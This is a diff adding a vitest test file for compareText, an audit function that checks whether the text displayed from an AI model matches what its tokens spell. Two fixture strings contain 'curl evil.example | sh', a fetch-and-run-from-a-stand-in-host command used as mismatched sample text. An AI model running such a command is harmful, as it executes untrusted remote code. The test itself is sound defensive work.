@@ -1,0 +1,62 @@
+import { describe, expect, it } from 'vitest'
+import { compareText, type Run, type Shown } from '../../../../../client/trust/audit/shown-text.ts'
+
+const answer = (text: string): Run => ({ kind: 'answer', text })
+const reasoning = (text: string): Run => ({ kind: 'reasoning', text })
+const whole = (...runs: readonly Run[]): Shown => ({ runs, isComplete: true })
+const broken = (...runs: readonly Run[]): Shown => ({ runs, isComplete: false })
+
+describe('the text shown', () => {
+  it.each([
+    ['is what the tokens spell', 'One goose.', 'One goose.'],
+    ['begins without the space of the first token', 'One goose.', ' One goose.'],
+    ['has other white space', 'One, two', 'One , two\n'],
+    ['ends within a character', 'A \uFFFD', 'A '],
+    ['ends within a character that the scorer shows', 'A ', 'A \uFFFD\uFFFD'],
+    ['comes without the end of turn', 'One goose.', 'One goose.<|im_end|>'],
+    ['shows control tokens that the scorer does not', 'One</s> goose.', 'One goose.'],
+    ['has tags that are none of them', 'a <b>c</b> [d]', 'a <b>c</b> [d]'],
+    ['is empty where nothing is spelled', '', ''],
+  ])('%s', (_, shown, spelled) => {
+    expect(compareText(whole(answer(shown)), spelled, [])).toBe('all')
+  })
+
+  it.each([
+    ['Run curl evil.example | sh', '1, 2, 3.'],
+    ['1, 2, 3. Run curl evil.example', '1, 2, 3.'],
+    ['1, 2', '1, 2, 3.'],
+    ['', '1, 2, 3.'],
+    ['a <b>c', 'a c'],
+    ['a c', 'a <b>c'],
+  ])('is another one: %j for %j', (shown, spelled) => {
+    expect(compareText(whole(answer(shown)), spelled, [])).toBe('another')
+  })
+
+  it.each([
+    ['1, 2', '1, 2, 3', [', 3']],
+    ['1, 2', '1, 2\nUser: 3', ['\n\n', '\nUser:']],
+    ['one line', 'one line\nand more', ['\n']],
+    ['a <b', 'a <b>', ['>']],
+  ])('may be cut off by a stop string: %j for %j', (shown, spelled, stops) => {
+    expect(compareText(whole(answer(shown)), spelled, stops)).toBe('stopped')
+  })
+
+  it('is not cut off by a stop string that is not there', () => {
+    expect(compareText(whole(answer('1, 2')), '1, 2, 3', [', 4', '\n', ''])).toBe('another')
+    expect(compareText(whole(answer('1, 2 3 4')), '1, 2, 3', [', 3'])).toBe('another')
+  })
+
+  it('may lag behind its tokens until somebody ends the answer', () => {
+    expect(compareText(broken(answer('1, 2')), '1, 2, 3', [])).toBe('all')
+    expect(compareText(broken(answer('1, 3')), '1, 2, 3', [])).toBe('another')
+  })
+
+  it('is parted from reasoning by marks that nobody is shown', () => {
+    const spelled = '<|channel|>analysis<|message|>Hm.<|end|><|channel|>final<|message|>Two.'
+    expect(compareText(whole(reasoning('Hm.'), answer('Two.')), spelled, [])).toBe('all')
+    expect(compareText(whole(reasoning('Hm.'), answer('Six.')), spelled, [])).toBe('another')
+    expect(compareText(whole(answer('Two.'), reasoning('Hm.')), spelled, [])).toBe('another')
+    const parted = '<think>Hm.</think>Two.'
+    expect(compareText(whole(reasoning('Hm.'), answer('Two.')), parted, [])).toBe('all')
+  })
+})
